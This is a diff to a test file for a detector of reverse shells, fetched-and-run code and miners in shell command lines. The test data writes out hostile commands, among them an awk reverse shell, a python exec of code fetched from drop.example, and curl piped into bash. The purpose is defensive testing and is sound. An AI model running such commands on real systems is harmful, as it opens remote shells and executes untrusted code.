@@ -1,5 +1,5 @@
 /** Command lines that give a shell away or run what they fetch, and the everyday ones that only look so. */
-import { fetchedCodeIn, minerIn, reverseShellIn } from '@arrivals/core';
+import { fetchedCodeIn, minerIn, readCommandText, reverseShellIn } from '@arrivals/core';
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import { SEED } from '../samples.ts';
@@ -39,7 +39,7 @@ describe('a reverse shell', () => {
     `awk 'BEGIN{s="/inet/tcp/0/h/1";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'`,
   ])
     it(line, () => {
-      assert.notEqual(reverseShellIn(line), undefined);
+      assert.notEqual(reverseShellIn(readCommandText(line)), undefined);
     });
 });
 
@@ -70,7 +70,7 @@ describe('no reverse shell', () => {
     'function -e nc',
   ])
     it(JSON.stringify(line), () => {
-      assert.equal(reverseShellIn(line), undefined);
+      assert.equal(reverseShellIn(readCommandText(line)), undefined);
     });
 });
 
@@ -100,14 +100,15 @@ describe('code that is fetched and run', () => {
     `python3 -c 'from urllib.request import urlopen; exec(urlopen("http://drop.example").read())'`,
   ])
     it(line, () => {
-      assert.notEqual(fetchedCodeIn(line), undefined);
+      assert.notEqual(fetchedCodeIn(readCommandText(line)), undefined);
     });
 
   it('is told with the host that it comes from, and without what else the line holds', () => {
-    assert.deepEqual(fetchedCodeIn('curl -u me:hunter2 https://user:pass@Drop.example:8443/x?token=abc | bash'), {
+    assert.deepEqual(fetchedCodeIn(readCommandText('curl -u me:hunter2 https://user:pass@Drop.example:8443/x?token=abc | bash')), {
       phrase: 'curl piped into bash',
       from: 'drop.example',
     });
+    assert.equal(fetchedCodeIn(readCommandText('curl https://me:hunter2/x@drop.example/y | bash'))?.from, undefined);
   });
 });
 
@@ -128,7 +129,7 @@ describe('no code that is fetched and run', () => {
     'sh -c "curl http://x.example | tee out" ; bash run.sh',
   ])
     it(line, () => {
-      assert.equal(fetchedCodeIn(line), undefined);
+      assert.equal(fetchedCodeIn(readCommandText(line)), undefined);
     });
 });
 
@@ -157,6 +158,7 @@ describe('mining', () => {
   for (const line of [
     '',
     'serve --port 3333',
+    'proxy db:3333',
     'serve --url http://db:3333',
     'curl -o out.json http://db:8080',
     'app --url=db:8080',
@@ -212,8 +214,8 @@ describe('a command line of any kind', () => {
           fc.string({ unit: 'binary' }),
         ),
         (line) => {
-          reverseShellIn(line);
-          fetchedCodeIn(line);
+          reverseShellIn(readCommandText(line));
+          fetchedCodeIn(readCommandText(line));
           minerIn(line, LISTS);
         },
       ),
